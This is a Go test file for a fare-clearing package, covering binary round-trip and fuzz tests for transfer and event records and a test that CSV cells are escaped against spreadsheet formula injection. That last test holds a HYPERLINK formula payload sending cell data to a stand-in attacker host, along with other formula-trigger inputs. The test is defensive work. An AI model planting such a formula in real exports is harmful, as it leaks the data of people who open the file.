package clearing

import (
	"testing"
	"time"

	"github.com/faregate/faregate/fare"
)

func TestRecordsRoundTrip(t *testing.T) {
	at := time.Date(2026, 11, 21, 8, 0, 0, 5, time.UTC)
	e := EventRecord{ApplyIndex: 7, Fare: 250, AppliedAt: at, Raw: []byte{1, 2, 3}}
	b, _ := e.MarshalBinary()
	var e2 EventRecord
	if err := e2.UnmarshalBinary(b); err != nil || e2.ApplyIndex != 7 || e2.Fare != 250 || !e2.AppliedAt.Equal(at) || string(e2.Raw) != "\x01\x02\x03" {
		t.Fatalf("event record round trip: %+v, %v", e2, err)
	}
	tr := Transfer{Seq: 3, ID: fare.NewEventID(at), Debit: "passenger/card/x", Credit: "operator/metro", Amount: 250, Operator: "metro", ApplyIndex: 7, At: at}
	b, _ = tr.MarshalBinary()
	var tr2 Transfer
	if err := tr2.UnmarshalBinary(b); err != nil || tr2 != (Transfer{Seq: 3, ID: tr.ID, Debit: tr.Debit, Credit: tr.Credit, Amount: 250, Operator: "metro", ApplyIndex: 7, At: tr2.At}) || !tr2.At.Equal(at) {
		t.Fatalf("transfer round trip: %+v, %v", tr2, err)
	}
	for n := range len(b) {
		if err := tr2.UnmarshalBinary(b[:n]); err == nil {
			t.Fatalf("transfer truncated to %d bytes decoded", n)
		}
	}
}

func FuzzTransferRecord(f *testing.F) {
	tr := Transfer{Seq: 1, Debit: "a", Credit: "b", Operator: "c", At: time.Unix(0, 0)}
	b, _ := tr.MarshalBinary()
	f.Add(b)
	f.Fuzz(func(t *testing.T, b []byte) {
		var tr Transfer
		if tr.UnmarshalBinary(b) != nil {
			return
		}
		again, err := tr.MarshalBinary()
		if err != nil || string(again) != string(b) {
			t.Fatalf("re-encoding differs")
		}
	})
}

func FuzzEventRecord(f *testing.F) {
	e := EventRecord{ApplyIndex: 1, Raw: []byte("x"), AppliedAt: time.Unix(0, 0)}
	b, _ := e.MarshalBinary()
	f.Add(b)
	f.Fuzz(func(t *testing.T, b []byte) {
		var e EventRecord
		_ = e.UnmarshalBinary(b)
	})
}

// TestCSVCellFormula: a cell a spreadsheet would read as a formula (a
// reason or gate a terminal signed) is neutralised; numbers stay numbers.
func TestCSVCellFormula(t *testing.T) {
	for in, want := range map[string]string{
		`=HYPERLINK("http://evil.example/?x="&A1,"click")`: `'=HYPERLINK("http://evil.example/?x="&A1,"click")`,
		"-2-3":       "'-2-3",
		"+1+2":       "'+1+2",
		"@SUM(A1)":   "'@SUM(A1)",
		"\tcmd":      "'\tcmd",
		"\rcmd":      "'\rcmd",
		"-0.08":      "-0.08",
		"-180":       "-180",
		"+5":         "+5",
		"gate-3":     "gate-3",
		"":           "",
		"'=already":  "'=already",
		"metro-s01":  "metro-s01",
		"2026-12-02": "2026-12-02",
	} {
		if got := csvCell(in); got != want {
			t.Errorf("csvCell(%q) = %q, want %q", in, got, want)
		}
	}
}
